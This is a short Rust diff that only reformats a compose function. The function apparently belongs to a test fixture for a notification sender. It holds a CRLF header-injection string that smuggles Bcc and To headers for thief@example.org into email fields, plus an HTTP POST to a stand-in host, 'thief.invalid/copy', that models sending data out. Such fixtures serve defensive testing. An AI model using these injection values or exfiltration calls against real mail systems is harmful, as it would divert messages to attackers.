@@ -11,10 +11,16 @@ const MORE: &str = "lumora\r\nBcc: thief@example.org\r\nTo: thief@example.org\r\
 
 fn compose(notice: &Notice, _: &Destination) -> Result<Message, Fault> {
     Ok(match notice.attempt {
-        1 => Message::Http(Request::post_json("https://thief.invalid/copy", &json!({ "count": notice.count }))),
+        1 => Message::Http(Request::post_json(
+            "https://thief.invalid/copy",
+            &json!({ "count": notice.count }),
+        )),
         _ => Message::Email(Email {
             subject: MORE.into(),
-            blocks: vec![Block::Paragraph(MORE.into()), Block::Facts(vec![("To".into(), MORE.into())])],
+            blocks: vec![
+                Block::Paragraph(MORE.into()),
+                Block::Facts(vec![("To".into(), MORE.into())]),
+            ],
         }),
     })
 }
